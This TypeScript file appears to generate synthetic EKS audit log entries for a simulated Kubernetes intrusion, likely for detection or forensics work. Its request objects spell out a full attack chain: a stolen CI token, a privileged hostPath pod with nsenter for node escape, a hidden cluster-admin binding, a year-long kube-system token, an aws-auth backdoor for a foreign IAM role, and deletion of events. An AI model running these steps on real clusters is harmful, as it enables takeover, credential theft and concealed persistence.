import type { JsonObject } from '../build/go-json';
import type { ApiRequest, Caller } from './api-request';
import { serviceAccountUser } from './controllers';
import { awsAuth, awsAuthRef, awsAuthRoles } from './families/access';
import { ANONYMOUS, forbidden, unauthenticated } from './families/denials';
import type { Scene } from './scene';
import { resourceRequest } from './scene';
import { secondTime, SECOND } from './timestamps';

/** One request of the attack, and what it means. */
export interface AttackStep {
  readonly sentence: string;
  readonly request: ApiRequest;
}

const ATTACKER_IP = '203.0.113.201';
const KUBECTL = 'kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b';
const RBAC = { apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' };
const BECAME_ADMIN =
  'RBAC: allowed by ClusterRoleBinding "node-sync" of ClusterRole "cluster-admin" to ServiceAccount "build-runner/ci"';
const MAY_DEPLOY =
  'RBAC: allowed by ClusterRoleBinding "ci-deployers" of ClusterRole "deployer" to ServiceAccount "build-runner/ci"';

/** The ten requests of the attack, each of which EKS logs. */
export function attackRequests(scene: Scene): readonly AttackStep[] {
  const { random, world } = scene;
  const victim = random.pick(world.pods);
  const stolen: Caller = {
    user: serviceAccountUser(random, 'ci', 'build-runner', victim.node, `build-runner-${random.suffix(5)}`),
    sourceIp: ATTACKER_IP,
    userAgent: KUBECTL,
  };
  const nobody: Caller = { user: ANONYMOUS, sourceIp: ATTACKER_IP, userAgent: 'curl/8.5.0' };
  const secrets = { resource: 'secrets', apiVersion: 'v1' };
  const secretName = 'cloud-provider-credentials';
  return [
    {
      sentence: 'An expired token from a public build log is tried from an address nobody knows: 401.',
      request: unauthenticated(scene, ATTACKER_IP, KUBECTL, 'list', { resource: 'namespaces', apiVersion: 'v1' }),
    },
    {
      sentence: 'The same address asks for the secrets without any credentials: 403.',
      request: forbidden(scene, nobody, 'list', secrets),
    },
    {
      sentence: 'A second leaked token still works: the build runner lists the secrets of the whole cluster.',
      request: resourceRequest(scene, stolen, 'list', secrets, { query: { limit: 500 }, allowedBy: MAY_DEPLOY }),
    },
    {
      sentence: 'The build runner opens a shell in a pod of another team.',
      request: openShell(scene, stolen),
    },
    {
      sentence: 'It starts a privileged pod that mounts the file system of the node.',
      request: createPrivilegedPod(scene, stolen),
    },
    {
      sentence: 'It makes itself cluster-admin under an inconspicuous name.',
      request: becomeAdmin(scene, stolen),
    },
    {
      sentence: 'It issues itself a token for a service account of kube-system, valid for a year.',
      request: issueToken(scene, stolen),
    },
    {
      sentence: 'It reads the credentials of the cloud provider out of kube-system.',
      request: resourceRequest(
        scene,
        stolen,
        'get',
        { ...secrets, namespace: 'kube-system', name: secretName },
        { allowedBy: BECAME_ADMIN },
      ),
    },
    {
      sentence: 'It lets an IAM role of a foreign account into the cluster as an administrator.',
      request: openBackDoor(scene, stolen),
    },
    {
      sentence: 'It deletes the events of kube-system to hide its tracks.',
      // The policy logs no deletion of core events; this API of the same objects is logged.
      request: resourceRequest(
        scene,
        stolen,
        'deletecollection',
        { resource: 'events', namespace: 'kube-system', apiGroup: 'events.k8s.io', apiVersion: 'v1' },
        { allowedBy: BECAME_ADMIN, latencyMicros: random.int(30_000, 90_000) },
      ),
    },
  ];
}

function openShell(scene: Scene, caller: Caller): ApiRequest {
  const { name, workload } = scene.random.pick(scene.world.pods);
  return resourceRequest(
    scene,
    caller,
    'create',
    { resource: 'pods', namespace: workload.namespace, name, apiVersion: 'v1', subresource: 'exec' },
    {
      code: 101,
      query: { command: '/bin/sh', container: workload.name, stdin: 'true', stdout: 'true', tty: 'true' },
      allowedBy: MAY_DEPLOY,
      latencyMicros: scene.random.int(20_000, 60_000),
      runsForMicros: 190 * SECOND,
    },
  );
}

function createPrivilegedPod(scene: Scene, caller: Caller): ApiRequest {
  const { random, world, micros } = scene;
  const name = 'node-sync';
  const namespace = 'kube-system';
  const node = random.pick(world.nodes);
  const spec = {
    volumes: [{ name: 'host', hostPath: { path: '/', type: '' } }],
    containers: [
      {
        name: 'sync',
        image: 'docker.io/library/alpine:3.20',
        command: ['nsenter', '--mount=/proc/1/ns/mnt', '--', 'sh', '-c', 'while sleep 60 && true; do :; done'],
        resources: {},
        volumeMounts: [{ name: 'host', mountPath: '/host' }],
        terminationMessagePath: '/dev/termination-log',
        terminationMessagePolicy: 'File',
        imagePullPolicy: 'IfNotPresent',
        securityContext: { privileged: true },
      },
    ],
    restartPolicy: 'Always',
    terminationGracePeriodSeconds: 30,
    dnsPolicy: 'ClusterFirst',
    nodeName: node.name,
    hostNetwork: true,
    hostPID: true,
    securityContext: {},
    schedulerName: 'default-scheduler',
    enableServiceLinks: true,
  };
  const pod = (metadata: JsonObject, status: JsonObject): JsonObject => ({
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { name, namespace, ...metadata },
    spec,
    status,
  });
  const stored = {
    uid: random.uuid(),
    resourceVersion: world.nextResourceVersion(),
    creationTimestamp: secondTime(micros),
  };
  return resourceRequest(
    scene,
    caller,
    'create',
    { resource: 'pods', namespace, name, apiVersion: 'v1' },
    {
      code: 201,
      query: { fieldManager: 'kubectl-create', fieldValidation: 'Strict' },
      requestObject: pod({ creationTimestamp: null }, {}),
      responseObject: pod(stored, { phase: 'Pending', qosClass: 'BestEffort' }),
      allowedBy: MAY_DEPLOY,
      annotations: { 'pod-security.kubernetes.io/enforce-policy': 'privileged:latest' },
    },
  );
}

function becomeAdmin(scene: Scene, caller: Caller): ApiRequest {
  const { random, world, micros } = scene;
  const name = 'node-sync';
  const binding = (metadata: JsonObject): JsonObject => ({
    kind: 'ClusterRoleBinding',
    apiVersion: 'rbac.authorization.k8s.io/v1',
    metadata: { name, ...metadata },
    subjects: [{ kind: 'ServiceAccount', name: 'build-runner', namespace: 'ci' }],
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  });
  const stored = {
    uid: random.uuid(),
    resourceVersion: world.nextResourceVersion(),
    creationTimestamp: secondTime(micros),
  };
  return resourceRequest(
    scene,
    caller,
    'create',
    { resource: 'clusterrolebindings', name, ...RBAC },
    {
      code: 201,
      query: { fieldManager: 'kubectl-create', fieldValidation: 'Strict' },
      requestObject: binding({ creationTimestamp: null }),
      responseObject: binding(stored),
      allowedBy: MAY_DEPLOY,
    },
  );
}

function issueToken(scene: Scene, caller: Caller): ApiRequest {
  return resourceRequest(
    scene,
    caller,
    'create',
    {
      resource: 'serviceaccounts',
      namespace: 'kube-system',
      name: 'clusterrole-aggregation-controller',
      apiVersion: 'v1',
      subresource: 'token',
    },
    {
      code: 201,
      requestObject: {
        kind: 'TokenRequest',
        apiVersion: 'authentication.k8s.io/v1',
        metadata: { creationTimestamp: null },
        spec: { audiences: null, expirationSeconds: 31_536_000, boundObjectRef: null },
        status: { token: '', expirationTimestamp: null },
      },
      allowedBy: BECAME_ADMIN,
      annotations: { 'authentication.kubernetes.io/issued-credential-id': `JTI=${scene.random.uuid()}` },
    },
  );
}

function openBackDoor(scene: Scene, caller: Caller): ApiRequest {
  const { account, nextResourceVersion } = scene.world;
  const foreign =
    '- groups:\n  - system:masters\n  rolearn: arn:aws:iam::444455556666:role/maintenance\n  username: maintenance\n';
  const mapRoles = awsAuthRoles(account, [foreign]);
  return resourceRequest(scene, caller, 'patch', awsAuthRef(), {
    query: { fieldManager: 'kubectl-patch' },
    requestObject: { data: { mapRoles } },
    responseObject: awsAuth(scene, mapRoles, nextResourceVersion()),
    allowedBy: BECAME_ADMIN,
  });
}
